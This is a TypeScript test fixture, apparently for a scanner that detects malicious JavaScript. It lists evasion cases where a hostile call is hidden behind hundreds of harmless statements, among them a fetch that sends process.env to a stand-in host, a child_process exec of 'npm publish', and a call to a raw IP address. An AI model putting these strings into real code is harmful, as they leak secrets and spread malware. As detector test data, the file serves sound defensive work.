import { BINDING } from './evasion.js';
import type { Evasion } from './evasion.js';

const addresses = Array.from({ length: 1_001 }, (_, index) => `f("https://example.com/${index}");`).join('');

/** Behind so much that is harmless that a limit comes first. */
export const FOLLOWED_CROWDED: readonly Evasion[] = [
  ['after two hundred calls', `${'process.binding("util");\n'.repeat(200)}${BINDING}`, 'engine-internals critical'],
  ['the last of many addresses', `${addresses}fetch("http://203.0.113.9/x")`, 'raw-address'],
  ['after two hundred commands', `const c = require("child_process");${'c.exec("ls");'.repeat(200)}c.exec("npm publish")`, 'self-spreading critical'],
  ['behind two hundred thousand expressions', `fetch("https://example.com", [${'1,'.repeat(200_100)}]);fetch("https://example.invalid",{body:JSON.stringify(process.env)})`, 'kept'],
];
